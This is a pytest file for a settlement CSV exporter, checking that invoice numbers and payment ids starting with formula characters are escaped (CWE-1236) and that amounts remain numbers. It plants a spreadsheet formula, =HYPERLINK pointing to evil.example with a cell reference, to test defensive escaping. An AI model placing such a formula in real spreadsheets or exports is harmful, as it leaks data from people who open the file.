"""The settlement CSV keeps a client's invoice number text, never a spreadsheet formula
(attack3 finding 2, CWE-1236), and its amounts stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date

from shared.domain.settlement.agreement import Recipient
from shared.domain.settlement.csv_statement import statement_csv
from shared.domain.settlement.statement import SettlementLine, StatementTotals

_PLANTED = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def _rows() -> list[list[str]]:
    lines = [
        SettlementLine("mollie-tr_1", date(2026, 11, 30), _PLANTED, "principal", 5000, Recipient.CLIENT),
        SettlementLine("@pay", date(2026, 11, 30), "+31-F1", "interest", 99, Recipient.CLIENT),
        SettlementLine("-pay", date(2026, 11, 30), "\tF-2", "costs", -250, Recipient.AGENCY, reversal=True),
        SettlementLine("tr_2", date(2026, 11, 30), "F-0001", "principal", 1000, Recipient.CLIENT),
    ]  # fmt: skip
    figures = StatementTotals(6099, -250, -250, 6099, 0, 0, 0, 5849, 5849, 0)
    return list(csv.reader(io.StringIO(statement_csv("R1", lines, figures))))


def test_no_text_cell_starts_a_formula() -> None:
    rows = _rows()
    lines = rows[2:6]
    assert lines[0][3] == "'" + _PLANTED
    assert [r[2] for r in lines] == ["mollie-tr_1", "'@pay", "'-pay", "tr_2"]
    assert [r[3] for r in lines[1:]] == ["'+31-F1", "'\tF-2", "F-0001"]
    for row in rows:
        for cell in row[:6]:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_amounts_stay_numbers() -> None:
    rows = _rows()
    assert [r[6] for r in rows[2:6]] == ["50.00", "0.99", "-2.50", "10.00"]
    figures = {r[0]: r[6] for r in rows[6:]}
    assert figures["carried_out"] == "0.00" and rows[7][6] == "-2.50"
